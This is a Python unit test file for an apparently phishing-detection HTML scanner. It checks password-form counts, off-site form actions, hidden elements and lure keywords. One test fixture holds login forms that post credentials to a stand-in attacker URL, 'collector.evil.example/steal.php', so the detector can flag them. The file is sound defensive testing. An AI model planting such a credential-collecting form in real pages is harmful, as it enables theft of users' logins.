import unittest
from bs4 import BeautifulSoup
from urlsentry.html_scanner import analyze_forms, count_hidden_elements, extract_dom_signals


class TestHtmlScanner(unittest.TestCase):
    def test_no_forms(self):
        html = "<html><head></head><body><p>Nothing to see here</p></body></html>"
        signals = extract_dom_signals(html, "https://example.com")
        self.assertEqual(signals.password_forms, 0)
        self.assertEqual(signals.suspicious_form_actions, ())
        self.assertEqual(signals.body_keywords, ())
        self.assertEqual(signals.hidden_elements, 0)

    def test_same_origin_login_form(self):
        html = '''
        <html><body>
        <form action="/login" method="post">
            <input type="text" name="username" />
            <input type="PASSWORD" name="password" />
            <input type="hidden" name="csrf_token" value="abc" />
        </form>
        </body></html>
        '''
        soup = BeautifulSoup(html, "html.parser")
        res = analyze_forms(soup, "https://example.com/signin")
        self.assertEqual(res["password_fields"], 1)
        self.assertEqual(res["external_actions"], [])

    def test_form_posting_off_site(self):
        html = '''
        <form action="https://collector.evil.example/steal.php"><input type="password"></form>
        <form action="https://collector.evil.example/steal.php"><input type="email"></form>
        <form action="javascript:void(0)"></form>
        '''
        signals = extract_dom_signals(html, "https://bank.example/")
        self.assertEqual(signals.password_forms, 1)
        self.assertEqual(signals.suspicious_form_actions, ("https://collector.evil.example/steal.php",))

    def test_hidden_elements(self):
        html = '''
        <body>
          <input type="hidden" name="a"><input type="hidden" name="b"><input type="hidden" name="c">
          <div hidden>x</div>
          <span style="display: none">y</span>
          <p style="visibility:hidden">z</p>
          <p style="color: red">visible</p>
        </body>
        '''
        soup = BeautifulSoup(html, "html.parser")
        self.assertEqual(count_hidden_elements(soup), 6)

    def test_body_keywords_in_list_order(self):
        html = "<body><h1>Your ACCOUNT is locked</h1><p>Please verify now</p></body>"
        signals = extract_dom_signals(html, "https://example.com")
        self.assertEqual(signals.body_keywords, ("verify", "account"))


if __name__ == '__main__':
    unittest.main()
